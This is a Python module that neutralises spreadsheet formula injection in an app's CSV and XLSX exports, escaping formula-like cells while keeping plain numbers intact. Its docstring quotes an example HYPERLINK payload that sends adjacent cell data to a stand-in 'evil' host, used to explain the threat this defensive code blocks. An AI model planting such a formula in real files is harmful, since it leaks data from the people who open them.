"""Cells for every CSV and XLSX file the app writes: data, never formulas.

A spreadsheet program runs a cell that starts with = + - @ (or a tab or a
carriage return before one) as a formula, so a target named
`=HYPERLINK("https://evil/?"&B3,"x")` would send neighbouring cells away
when clicked (OWASP, "CSV Injection"). Such names are legitimate data:
imports accept them, and exports must carry them as text.

- CSV has no types: the cell gets a leading apostrophe, which spreadsheets
  read as "this is text" and do not display.
- XLSX has types: the value is stored unchanged as a string cell, never
  as a formula (openpyxl would otherwise store any "=..." as a formula).
"""
from __future__ import annotations

import re
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number such as -3 or +1.5 starts no formula; keep it as it is, so
# that numeric attributes survive an export and a re-import unchanged.
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")
# Control characters an XLSX cannot hold (openpyxl refuses them).
_ILLEGAL_XML = re.compile(r"[\000-\010\013\014\016-\037]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would treat `text` as a formula."""
    return text.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(text)


def csv_cell(value: Any) -> Any:
    """A CSV cell value: numbers unchanged, formula-like text behind an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    return "'" + text if is_formula_like(text) else text


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]


def xlsx_row(sheet, values) -> list:
    """Values for one write-only row: every text a string cell, never a formula.

    openpyxl stores a string that starts with "=" as a formula; only those
    become explicit string cells (a cell object per value would cost a
    third more time on a large export).
    """
    return [_xlsx_value(sheet, value) for value in values]


def _xlsx_value(sheet, value):
    if not isinstance(value, str):
        return value
    text = _ILLEGAL_XML.sub("", value)
    if not text.startswith("="):
        return text
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, text)
    cell.data_type = "s"  # openpyxl made it a formula ('f'); it is text
    return cell
